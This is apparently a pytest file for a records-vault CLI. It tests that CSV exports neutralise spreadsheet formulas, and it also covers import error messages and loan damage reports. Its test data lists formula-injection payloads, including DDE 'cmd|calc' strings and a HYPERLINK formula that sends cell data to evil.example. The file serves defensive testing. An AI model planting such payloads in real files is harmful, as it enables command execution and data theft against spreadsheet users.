"""Issue 19, parts 2, 7 and 8 (second half), on real vaults through the CLI:

- CSV exports are safe to open in a spreadsheet: a text cell a spreadsheet would evaluate
  (`=cmd|' /C calc'!A0`, `=HYPERLINK(...)`, `+1+cmd|calc`, `@SUM(...)`) is written with a
  `'` in front and quoted (OWASP's rule, docs/exchange.md "Spreadsheet formulas"); numbers
  stay numbers; `import` takes exactly that `'` off again, so export → import is the
  identity; the JSON export is unchanged.
- Import errors: one line per bad cell on stderr (at most ten, each cut at 200
  characters, then how many more), and a file that is neither CSV nor a workbook is called
  what it is.
- `dangan show` of a record lists the loans that returned it damaged or lost
  (docs/lending.md §4), on stdout, as YAML comments.
"""
from __future__ import annotations

import csv
import io
import json
import random
import unicodedata
import zipfile
from pathlib import Path

import pytest
from conftest import Result, run_cli, snapshot
from hypothesis import given
from hypothesis import strategies as st

from dangan.formats import agekeys
from dangan.formats.yamlio import load_text
from dangan.services.exchange import as_read, as_written, neutralised, to_csv

ROOM = "A01-02-001-0301"
OPENED = "2024-03-01"  # pinned: the export would otherwise carry today's date

# the payloads of the issue and their kin: (title as stored, the CSV cell export must write)
PAYLOADS = [
    ("=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""),
    ('=HYPERLINK("http://evil.example/?d="&A1,"點我")', '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""點我"")"'),
    ("+1+cmd|calc", "\"'+1+cmd|calc\""),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\""),
    ("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""),
    ("＝1+1", "\"'＝1+1\""),  # full-width: NFKC folds it into `=`
    ("＠SUM(A1)", "\"'＠SUM(A1)\""),
    ("  =1+1", "\"'  =1+1\""),  # white space first: a spreadsheet may trim it
    ("'=1+1", "\"''=1+1\""),  # already behind an apostrophe: one more, so import can undo it
    ("=1+1,=2+2", "\"'=1+1,=2+2\""),  # a separator inside stays inside the quoted cell
]
# text that no spreadsheet evaluates is written as before: no apostrophe, no quotes
HARMLESS = [("電梯 =1", "電梯 =1"), ("O'Brien", "O'Brien"), ("'quoted'", "'quoted'"), ("1-2單元", "1-2單元")]


def dg(root: Path, *args: str) -> Result:
    return run_cli(["-C", str(root), *args])


def ok(result: Result) -> Result:
    assert result.code == 0, result
    return result


def new_room(root: Path, title: str, floor: int = 3, room: str = ROOM) -> str:
    return ok(dg(root, "new", "FW", room, "--set", f"title={title}", "--set", f"floor={floor}",
                 "--set", "gross_area=89.5", "--set", "use=residential", "--set", f"opened={OPENED}")).out.strip()


@pytest.fixture
def payload_vault(vault: Path) -> Path:
    """One FW record per payload and per harmless title, in this order, and a basement
    room whose floor is a negative number."""
    for title, _ in PAYLOADS + HARMLESS:
        new_room(vault, title)
    new_room(vault, "地下車庫", floor=-2, room="A01-02-001-0302")
    return vault


def csv_lines(root: Path) -> list[str]:
    exported = ok(dg(root, "export", "--category", "FW", "--format", "csv"))
    return exported.out.split("\n")


# ------------------------------------------------------------------- part 2: export

def test_formula_payloads_are_neutralised_byte_for_byte(payload_vault: Path) -> None:
    lines = csv_lines(payload_vault)
    assert lines[0] == "code,category,title,status,opened,floor,gross_area,use"
    assert lines[-1] == ""  # every line ends with \n
    for serial, (title, cell) in enumerate(PAYLOADS + HARMLESS, start=1):
        code = f"FW-{ROOM}-{serial:04d}"
        assert lines[serial] == f"{code},FW,{cell},unsold,{OPENED},3,89.5,residential", title
    # a negative number in a number field is a number, not a formula: written as it is
    assert lines[-2] == f"FW-A01-02-001-0302-0001,FW,地下車庫,unsold,{OPENED},-2,89.5,residential"


def test_no_exported_text_cell_starts_a_formula(payload_vault: Path) -> None:
    """What a spreadsheet sees: after CSV parsing, no text cell begins with a trigger."""
    table = list(csv.reader(io.StringIO("\n".join(csv_lines(payload_vault)))))
    floors = [row[5] for row in table[1:]]
    for row in table:
        for cell in row:
            if cell in floors:
                continue  # the floor column: numbers
            assert cell[:1] not in "=+-@\t\r\n＝＋－＠", cell
            assert cell.lstrip()[:1] not in "=+-@", cell
    assert "-2" in floors


def test_json_export_is_unchanged(payload_vault: Path) -> None:
    exported = ok(dg(payload_vault, "export", "--category", "FW"))
    records = json.loads(exported.out)
    assert [r["title"] for r in records] == [t for t, _ in PAYLOADS + HARMLESS] + ["地下車庫"]
    assert records[-1]["floor"] == -2
    assert "\"title\": \"=cmd|' /C calc'!A0\"," in exported.out  # the bytes, no apostrophe
    assert "\"title\": \"'=1+1\"," in exported.out


def test_export_then_import_gives_back_the_same_values(payload_vault: Path, tmp_path: Path) -> None:
    """The CSV as exported (code and category dropped, location added, every cell else
    byte for byte) imports as records with exactly the stored titles and numbers."""
    table = list(csv.reader(io.StringIO("\n".join(csv_lines(payload_vault)))))
    header = table[0]
    keep = [i for i, name in enumerate(header) if name not in ("code", "category")]
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["location"] + [header[i] for i in keep])
    for row in table[1:]:
        writer.writerow(["A01-02-001-0303"] + [row[i] for i in keep])
    sheet = tmp_path / "again.csv"
    sheet.write_text(out.getvalue(), encoding="utf-8")
    assert "'=cmd|' /C calc'!A0" in out.getvalue()  # the neutralised cells went in as such

    imported = json.loads(ok(dg(payload_vault, "import", "FW", str(sheet), "--json")).out)
    assert len(imported["codes"]) == len(PAYLOADS + HARMLESS) + 1

    records = json.loads(ok(dg(payload_vault, "export", "--category", "FW")).out)
    before = [r for r in records if r["code"] not in imported["codes"]]
    after = [r for r in records if r["code"] in imported["codes"]]
    strip = ("code",)
    assert [{k: v for k, v in r.items() if k not in strip} for r in after] == \
        [{k: v for k, v in r.items() if k not in strip} for r in before]
    assert after[-1]["floor"] == -2 and after[0]["title"] == "=cmd|' /C calc'!A0"


def test_import_takes_off_only_the_apostrophe_export_adds(vault: Path, tmp_path: Path) -> None:
    """A hand-written sheet: `'=x` is the spreadsheet's text marker in front of `=x`; an
    apostrophe before anything else is part of the value."""
    cells = {"'=SUM(1)": "=SUM(1)", "''=SUM(1)": "'=SUM(1)", "'abc": "'abc", "''": "''",
             "' ＋1": " ＋1", "It's": "It's"}
    sheet = tmp_path / "hand.csv"
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["location", "title", "use", "gross_area"])
    for cell in cells:
        writer.writerow([ROOM, cell, "residential", "50"])
    sheet.write_text(out.getvalue(), encoding="utf-8")
    ok(dg(vault, "import", "FW", str(sheet)))
    records = json.loads(ok(dg(vault, "export", "--category", "FW")).out)
    assert [r["title"] for r in records] == list(cells.values())


def test_xlsx_text_cells_lose_the_neutralising_apostrophe_too(vault: Path, tmp_path: Path) -> None:
    """An export opened in a spreadsheet that keeps the apostrophe as text and saved as
    .xlsx imports like the CSV itself."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["location", "title", "use", "gross_area", "floor"])
    sheet.append([ROOM, "'=cmd|' /C calc'!A0", "residential", 50, -1])
    sheet.append([ROOM, "'plain", "residential", 50, 2])
    path = tmp_path / "book.xlsx"
    book.save(path)
    ok(dg(vault, "import", "FW", str(path)))
    records = json.loads(ok(dg(vault, "export", "--category", "FW")).out)
    assert [(r["title"], r["floor"]) for r in records] == [("=cmd|' /C calc'!A0", -1), ("'plain", 2)]


@given(st.text())
def test_neutralising_is_undone_exactly_and_leaves_nothing_to_evaluate(text: str) -> None:
    written = as_written(text)
    assert as_read(written) == text
    assert (written != text) == neutralised(text)
    for start in (written[:1], written.lstrip()[:1]):  # what a spreadsheet could look at
        assert not start or unicodedata.normalize("NFKC", start)[:1] not in "=+-@\t\r\n\x00"


@given(st.lists(st.text(), min_size=1, max_size=4), st.lists(st.integers() | st.floats(allow_nan=False), max_size=2))
def test_csv_bytes_are_csv_writer_bytes_but_for_neutralised_cells(texts: list[str], numbers: list) -> None:
    """Rows with no cell to neutralise are exactly what csv.writer wrote before the change,
    but for a carriage return inside a cell: csv.writer (lineterminator "\\n") left it
    unquoted, and a reader split the row there; it is quoted now. Every row parses back
    (csv.reader) to the cells as written."""
    row = {f"c{i}": t for i, t in enumerate(texts)} | {f"n{i}": n for i, n in enumerate(numbers)}
    produced = to_csv([row])
    parsed = list(csv.reader(io.StringIO(produced, newline="")))
    assert parsed[1] == [as_written(t) for t in texts] + [str(n) for n in numbers]
    if not any(neutralised(t) or "\r" in t for t in texts):
        reference = io.StringIO()
        writer = csv.writer(reference, lineterminator="\n")
        writer.writerow(list(row))
        writer.writerow(["" if v is None else str(v) for v in row.values()])
        assert produced == reference.getvalue()


@pytest.mark.parametrize("text", ["\t=1+1", "\r=1+1", "\n=1+1", "\x00x", "\t", "－1", "﹦1"])
def test_control_and_folded_triggers_are_neutralised(text: str) -> None:
    """Cells beginning with tab, CR, LF or NUL, and NFKC-folded triggers (full-width and
    small forms), byte for byte (the CLI cannot always store these: see part 1)."""
    produced = to_csv([{"t": text}])
    assert produced == 't\n"\'' + text + '"\n'


# --------------------------------------------------------------- part 7: import errors

def write_rows(path: Path, rows: list[list[str]]) -> Path:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["location", "title", "use", "gross_area", "floor"])
    writer.writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def test_bad_cells_are_one_line_each_capped_with_a_count(vault: Path, tmp_path: Path) -> None:
    long_use = "x" * 3000
    rows = [[ROOM, f"房{i}", "residential", "50", f"地下{i}層"] for i in range(1, 25)]
    rows[0][2:] = [long_use, "50", "2"]  # row 2: a bad cell of 3 KB, the rest fine
    sheet = write_rows(tmp_path / "rooms.csv", rows)
    before = snapshot(vault)

    result = dg(vault, "import", "FW", str(sheet))

    assert result.code == 2, result
    assert result.out == ""
    lines = result.err.splitlines()
    assert lines[-2] == "dangan: error: rooms.csv: 20 error(s) (reading stopped after 20); nothing was imported"
    assert lines[-1] == ("hint: fix those cells and import the whole file again (--json lists every error); "
                         "use takes one of residential, shop, office, parking, storage, clubhouse, other: "
                         "`dangan fields FW use` gives their labels")
    cells = lines[:-3]
    assert len(cells) == 10 and lines[-3] == "... and 10 more (--json lists every error)"
    assert cells[0].startswith('rooms.csv: row 2, column use: "xxxxxxxx')
    assert cells[1:] == [f"rooms.csv: row {n}, column floor: not a number" for n in range(3, 12)]
    assert all(len(c) <= len("rooms.csv: ") + 200 for c in cells), [len(c) for c in cells]
    assert cells[0].endswith("…") and len(cells[0]) == len("rooms.csv: ") + 200  # the 3 KB cell, cut
    assert long_use not in result.err
    assert snapshot(vault) == before

    as_json = dg(vault, "import", "FW", str(sheet), "--json")
    assert as_json.code == 2
    errors = json.loads(as_json.out)["errors"]
    assert len(errors) == 20 and errors[0].startswith('row 2, column use: "xxxxxxxx')  # every error
    assert errors[1:] == [f"row {n}, column floor: not a number" for n in range(3, 22)]
    assert snapshot(vault) == before


def test_one_bad_cell_is_one_line(vault: Path, tmp_path: Path) -> None:
    sheet = write_rows(tmp_path / "one.csv", [[ROOM, "房1", "residential", "50", "2"],
                                               [ROOM, "房2", "palace", "50", "3"]])
    result = dg(vault, "import", "FW", str(sheet))
    assert result.code == 2, result
    lines = result.err.splitlines()
    assert len(lines) == 3, result
    assert lines[0] == 'one.csv: row 3, column use: "palace" is not one of "residential", "shop" or 5 other candidates'
    assert lines[1] == "dangan: error: one.csv: 1 error(s); nothing was imported"


def ods_bytes() -> bytes:
    """A minimal OpenDocument spreadsheet: its `mimetype` stored first, as the format says."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", "<office:document-content/>")
    return out.getvalue()


@pytest.mark.parametrize("name,content,says", [
    ("garbage.xlsx", random.Random(19).randbytes(4096),
     "garbage.xlsx: neither a CSV file nor an .xlsx workbook (an .xlsx is a zip archive; this file is not one)"),
    ("zeros.xlsx", bytes(2048), "zeros.xlsx: neither a CSV file nor an .xlsx workbook (an .xlsx"),
    ("scan.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)),
     "scan.csv: neither a CSV file nor an .xlsx workbook"),
    ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "old.xls: an Excel 97-2003 workbook (.xls)"),
    ("sheet.ods", None, "sheet.ods: an OpenDocument spreadsheet (.ods), not .xlsx or CSV"),
    ("unicode.txt", "title\n房1\n".encode("utf-16"), "unicode.txt: UTF-16 text"),
])
def test_a_file_that_is_neither_csv_nor_a_workbook_is_called_what_it_is(
        vault: Path, tmp_path: Path, name: str, content: bytes | None, says: str) -> None:
    path = tmp_path / name
    path.write_bytes(ods_bytes() if content is None else content)
    before = snapshot(vault)
    result = dg(vault, "import", "FW", str(path))
    assert result.code == 2, result
    lines = result.err.splitlines()
    assert len(lines) == 2 and lines[0].startswith(f"dangan: error: {says}"), result
    assert lines[1].startswith("hint: ") and ("CSV UTF-8" in lines[1]), result
    assert "NUL" not in result.err and "Traceback" not in result.err
    assert snapshot(vault) == before


def test_a_csv_in_another_encoding_is_still_text(vault: Path, tmp_path: Path) -> None:
    """GBK (what a Chinese Excel saves as "CSV") is text, just not UTF-8: the message says so."""
    path = tmp_path / "gbk.csv"
    path.write_bytes("location,title\nA01-02-001-0301,電梯機房\n".encode("gbk"))
    result = dg(vault, "import", "FW", str(path))
    assert result.code == 2, result
    assert result.err.startswith("dangan: error: gbk.csv: not UTF-8 (invalid byte at offset 31)"), result


# ------------------------------------------------------- part 8: damage on `show`

def test_show_lists_the_loans_that_returned_the_record_damaged_or_lost(tmp_path: Path) -> None:
    keys = {}
    for name in ("張敏", "陳立新"):
        secret, public = agekeys.generate_identity()
        agekeys.write_identity_file(tmp_path / f"{name}.key", secret, public)
        keys[name] = public
    root = tmp_path / "vault"
    ok(run_cli(["init", str(root), "--recipient", f"張敏={keys['張敏']}"]))
    ok(dg(root, "recipients", "add", "陳立新", keys["陳立新"], "--role", "approver"))
    lift, pump = "SB-A01-01-0001", "SB-A01-01-0002"
    for title in ("乘客電梯", "生活水泵"):
        ok(dg(root, "new", "SB", "A01-01", "--set", f"title={title}", "--set", "system=elevator",
              "--set", "equipment_type=曳引式", "--set", "install_location=1棟", "--set", f"opened={OPENED}"))

    def loan(record: str, day: int, borrower: str, condition: str, note: str | None) -> str:
        at = f"2024-11-{day:02d}T09:"
        code = ok(dg(root, "lend", "request", record, "--borrower", borrower, "--department", "工程部",
                     "--purpose", "年度檢驗。", "--form", "original", "--at", at + "00:00+08:00")).out.strip()
        ok(dg(root, "lend", "approve", code, "--by", "陳立新", "--at", at + "10:00+08:00"))
        ok(dg(root, "lend", "checkout", code, "--by", "張敏", "--at", at + "20:00+08:00"))
        ok(dg(root, "lend", "return", code, "--by", "張敏", "--condition", condition,
              *(["--note", note] if note else []), "--at", f"2024-11-{day + 1:02d}T10:00:00+08:00"))
        return code

    first = loan(lift, 4, "趙偉", "damaged", "第3頁水漬，已晾乾壓平")
    loan(lift, 8, "周敏", "intact", None)
    third = loan(lift, 12, "王芳", "lost", "遺失於電梯機房")
    loan(pump, 16, "趙偉", "damaged", "封面破損")

    shown = ok(dg(root, "show", lift))
    lines = shown.out.splitlines()
    assert lines[:2] == [
        f"# damaged on loan {first}: returned 2024-11-05, borrower 趙偉: 第3頁水漬，已晾乾壓平",
        f"# lost on loan {third}: returned 2024-11-13, borrower 王芳: 遺失於電梯機房",
    ]
    assert lines[2] == f"code: {lift}"
    assert load_text(shown.out)["title"] == "乘客電梯"  # still YAML: the reports are comments
    assert "周敏" not in shown.out and "封面破損" not in shown.out  # intact, and another record's

    as_json = json.loads(ok(dg(root, "show", lift, "--json")).out)
    assert as_json["damage"] == [
        {"loan": first, "returned": "2024-11-05", "condition": "damaged", "note": "第3頁水漬，已晾乾壓平", "borrower": "趙偉"},
        {"loan": third, "returned": "2024-11-13", "condition": "lost", "note": "遺失於電梯機房", "borrower": "王芳"},
    ]
    # the same loans `lend ls --record` names with those conditions
    listed = json.loads(ok(dg(root, "lend", "ls", "--record", lift, "--json")).out)["loans"]
    assert [r["code"] for r in listed if r["condition"] in ("damaged", "lost")] == [first, third]

    pump_shown = ok(dg(root, "show", pump)).out.splitlines()
    assert pump_shown[0].startswith("# damaged on loan ") and pump_shown[0].endswith("borrower 趙偉: 封面破損")
    assert pump_shown[1] == f"code: {pump}"
